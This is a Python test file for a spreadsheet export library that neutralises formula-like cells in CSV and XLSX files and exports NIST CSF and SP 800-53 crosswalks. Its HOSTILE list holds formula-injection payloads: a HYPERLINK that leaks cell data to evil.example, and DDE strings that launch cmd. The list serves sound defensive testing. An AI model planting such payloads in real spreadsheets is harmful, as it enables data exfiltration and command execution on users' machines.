"""The one CSV/XLSX writer: formula-like cells neutralised, Excel files laid out for reading."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import UTC, date, datetime

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from csfpilot.formats.bundled import read_bundled
from csfpilot.formats.framework_export import (
    CROSSWALK_COLUMNS,
    FRAMEWORK_COLUMNS,
    export_crosswalk,
    export_framework,
)
from csfpilot.formats.spreadsheet_safety import (
    Column,
    Sheet,
    csv_bytes,
    neutralise,
    restore,
)
from csfpilot.formats.xlsx_writer import sheet_name, xlsx_bytes

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    " =1+1",
    "\n=1+1",
    "\u00a0=1+1",
    '\uff1dHYPERLINK("http://evil.example")',
    "\ufe66SUM(1,1)",
    "\u3000+1",
]
# What a spreadsheet may read as the start of a formula, for the checks below.
FORMULA_LIKE = re.compile(r"^(?:[\t\r\n]|\s*[=+\-@＝﹦＋﹢－﹣＠﹫])")
COLUMNS = [Column("ID"), Column("Text", wrap=True)]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-", "'-"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("'twas", "'twas"),
        (" =1+1", "' =1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("\nnote", "'\nnote"),
        ("\u00a0=1+1", "'\u00a0=1+1"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\ufe661+1", "'\ufe661+1"),
        ("\uff0b1", "'\uff0b1"),
        ("' =x", "'' =x"),
        (" plain text", " plain text"),
        ("\u00a0", "\u00a0"),
        ("GV.OC-01", "GV.OC-01"),
        ("a=b", "a=b"),
        ("", ""),
        (-3, -3),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_neutralise(value: object, written: object) -> None:
    assert neutralise(value) == written
    if isinstance(value, str):
        assert restore(neutralise(value)) == value


@given(st.text())
def test_neutralised_text_never_starts_a_formula_and_restores_exactly(text: str) -> None:
    safe = neutralise(text)
    assert not FORMULA_LIKE.match(safe)
    assert restore(safe) == text


def test_csv_is_utf8_with_bom_crlf_and_neutralised_cells() -> None:
    rows = [[v, "ok"] for v in HOSTILE] + [["GV", "國際標準 ↔"]]
    data = csv_bytes(COLUMNS, rows)
    assert data.startswith(b"\xef\xbb\xbfID,Text\r\n")
    read = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert read[0] == ["ID", "Text"]
    assert [r[0] for r in read[1:-1]] == ["'" + v for v in HOSTILE]
    assert read[-1] == ["GV", "國際標準 ↔"]
    assert all(not FORMULA_LIKE.match(r[0]) for r in read)


def test_xlsx_cells_are_text_never_formulas() -> None:
    data = xlsx_bytes([Sheet("Framework", COLUMNS, [[v, v] for v in HOSTILE])])
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert {c.data_type for c in cells} == {"s"}
    assert [ws.cell(row=i + 2, column=1).value for i in range(len(HOSTILE))] == [
        "'" + v for v in HOSTILE
    ]
    assert [restore(ws.cell(row=i + 2, column=2).value) for i in range(len(HOSTILE))] == HOSTILE


def test_xlsx_layout_header_frozen_pane_widths_and_autofilter() -> None:
    rows = [
        ["GV.OC-01", "The organizational mission is understood", 3, date(2026, 1, 2)],
        [
            "GV.OC-02",
            "Stakeholders' needs are understood",
            None,
            datetime(2026, 1, 2, 9, tzinfo=UTC),
        ],
    ]
    columns = [Column("ID"), Column("Text", wrap=True), Column("Count"), Column("Due", width=12)]
    wb = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([Sheet("Plan", columns, rows)])))
    ws = wb["Plan"]
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:D3"
    header = ws[1]
    assert [c.value for c in header] == ["ID", "Text", "Count", "Due"]
    assert all(c.font.b for c in header)
    assert {c.fill.fgColor.rgb for c in header} == {"001F3864"}
    assert ws.column_dimensions["A"].width == 10  # "GV.OC-01" plus a margin
    assert ws.column_dimensions["B"].width == 80  # long text wraps in a wide column
    assert ws.column_dimensions["D"].width == 12
    assert ws["B2"].alignment.wrap_text is True
    assert ws["C2"].value == 3 and ws["C2"].data_type == "n"
    assert ws["D3"].value == datetime(2026, 1, 2, 9, 0)  # stored in UTC: Excel has no zones


def test_sheet_names_are_what_excel_accepts() -> None:
    taken: set[str] = set()
    assert (
        sheet_name("CSF 2.0 ↔ SP 800-53 [Rev. 5]: a/b", taken) == "CSF 2.0 ↔ SP 800-53  Rev. 5   a"
    )
    assert sheet_name("About", taken) == "About"
    assert sheet_name("about", taken) == "about (2)"
    assert len(sheet_name("x" * 40, taken)) == 31


def test_control_characters_xml_cannot_hold_are_replaced() -> None:
    data = xlsx_bytes([Sheet("T", COLUMNS, [["a\x01b", "c\x0bd"]])])
    ws = openpyxl.load_workbook(io.BytesIO(data)).worksheets[0]
    assert [ws["A2"].value, ws["B2"].value] == ["a\ufffdb", "c\ufffdd"]


def test_rows_stream_past_the_width_sample() -> None:
    rows = ([f"id-{i}", "x" * (i % 7)] for i in range(1200))
    ws = openpyxl.load_workbook(io.BytesIO(xlsx_bytes([Sheet("Big", COLUMNS, rows)]))).active
    assert ws.max_row == 1201
    assert ws["A1201"].value == "id-1199"
    assert ws.auto_filter.ref == "A1:B1201"


# --- the framework and crosswalk exports go through it ---------------------------------------


@pytest.fixture(scope="module")
def bundle():
    return read_bundled()


def test_framework_csv_of_csf_2_0(bundle) -> None:
    csf = next(c for c in bundle.catalogs if c.info.key == "csf-2.0")
    file = export_framework(csf, "csv")
    assert (file.filename, file.media_type) == ("csf-2.0.csv", "text/csv; charset=utf-8")
    rows = list(csv.reader(io.StringIO(file.content.decode("utf-8-sig"), newline="")))
    assert rows[0] == [c.header for c in FRAMEWORK_COLUMNS]
    assert len(rows) == 1 + 134
    assert rows[1][:5] == ["GV", "", "GOVERN", rows[1][3], "function"]
    gv_oc_01 = next(r for r in rows if r[0] == "GV.OC-01")
    assert gv_oc_01[:5] == [
        "GV.OC-01",
        "GV.OC",
        "",
        "The organizational mission is understood and informs cybersecurity risk management",
        "subcategory",
    ]
    assert gv_oc_01[7].startswith("Ex1: Share the organization's mission")


def test_framework_xlsx_of_sp800_53_has_an_about_sheet(bundle) -> None:
    sp = next(c for c in bundle.catalogs if c.info.key == "sp800-53r5")
    file = export_framework(sp, "xlsx", generated_at=datetime(2026, 3, 1, tzinfo=UTC))
    wb = openpyxl.load_workbook(io.BytesIO(file.content))
    assert wb.sheetnames == ["sp800-53r5", "About"]
    ws = wb["sp800-53r5"]
    assert ws.max_row == 1 + 1209
    assert ws.auto_filter.ref == "A1:J1210"
    withdrawn = next(r for r in ws.iter_rows(values_only=True) if r[0] == "AC-2(10)")
    assert withdrawn[4:7] == ("enhancement", "yes", "incorporated into AC-2")
    about = dict(wb["About"].iter_rows(min_row=2, values_only=True))
    assert about["Key"] == "sp800-53r5"
    assert about["Version"] == "5.0.1"
    assert about["Elements"] == 1209
    assert about["Exported"] == "2026-03-01 00:00:00 UTC"


def test_crosswalk_csv_prints_both_ends_titles(bundle) -> None:
    cats = {c.info.key: c for c in bundle.catalogs}
    ms = next(m for m in bundle.mapping_sets if m.info.key == "olir-sp800-53r5-5.1.1")
    file = export_crosswalk(ms, "csv", source=cats["csf-2.0"], target=cats["sp800-53r5"])
    rows = list(csv.reader(io.StringIO(file.content.decode("utf-8-sig"), newline="")))
    assert rows[0] == [c.header for c in CROSSWALK_COLUMNS]
    assert len(rows) == 1 + 740
    assert rows[1] == [
        "csf-2.0",
        "GV.OC-01",
        "The organizational mission is understood and informs cybersecurity risk management",
        "related to",
        "sp800-53r5",
        "PM-11",
        "Mission and Business Process Definition",
        "",
        "",
    ]
